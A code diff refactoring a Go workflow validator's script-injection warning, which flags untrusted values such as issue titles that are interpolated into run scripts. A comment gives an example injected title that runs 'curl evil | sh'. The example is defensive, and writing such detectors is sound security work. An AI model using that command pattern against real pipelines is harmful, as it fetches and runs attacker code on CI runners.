@@ -1,7 +1,6 @@
 package workflow
 
 import (
-	"fmt"
 	"strings"
 
 	"github.com/birdflock/runner/pkg/workflow/expr"
@@ -67,28 +66,22 @@ func isUntrusted(segs []string) bool {
 // script, so a title like `"; curl evil | sh; "` runs (as on GitHub). The
 // fix is to pass the value through an environment variable, which the
 // shell does not parse as code.
-func ruleInjection(v *validator, w *Workflow) {
-	for _, j := range w.Jobs {
-		for _, s := range j.Steps {
-			if !s.Run.Set || !strings.Contains(s.Run.Raw, "${{") {
-				continue
-			}
-			t, err := expr.ParseTemplate(s.Run.Raw)
-			if err != nil {
-				continue // Validate reports it
-			}
-			for _, n := range t.Exprs() {
-				for _, p := range expr.Paths(n) {
-					if !isUntrusted(p.Segments) {
-						continue
-					}
-					v.warnf(offsetPos(s.Run, p.Offset), "injection",
-						"job %s step %d: %q is potentially untrusted and the shell runs whatever it holds: pass it through env (env: {%s: ${{ %s }}}) and use \"$%s\" in the script",
-						j.ID, s.Index+1, p.Text, envName(p.Segments), p.Text, envName(p.Segments))
+func ruleInjection() *rule {
+	return &rule{expr: func(v *validator, e *exprNode) {
+		if e.key != jobKey+"steps.run" {
+			return
+		}
+		for _, n := range e.nodes {
+			for _, p := range expr.Paths(n) {
+				if !isUntrusted(p.Segments) {
+					continue
 				}
+				v.warnf(offsetPos(e.val, p.Offset), "injection",
+					"job %s step %d: %q is potentially untrusted and the shell runs whatever it holds: pass it through env (env: {%s: ${{ %s }}}) and use \"$%s\" in the script",
+					e.job.ID, e.step.Index+1, p.Text, envName(p.Segments), p.Text, envName(p.Segments))
 			}
 		}
-	}
+	}}
 }
 
 // envName suggests a variable name for an access: its last property.
@@ -109,18 +102,4 @@ func envName(segs []string) string {
 		return name
 	}
 	return "VALUE"
-}
-
-// Warnings lists what a valid workflow does that is risky, such as script
-// injection (ruleInjection). They are not errors: the workflow runs as
-// it would on GitHub.
-func Warnings(w *Workflow) Errors {
-	v := &validator{file: w.File}
-	ruleInjection(v, w)
-	v.errs.sort()
-	return v.errs
-}
-
-func (v *validator) warnf(pos Pos, kind, format string, args ...any) {
-	v.errs = append(v.errs, &Error{File: v.file, Pos: pos, Kind: kind, Message: fmt.Sprintf(format, args...), Warning: true})
 }
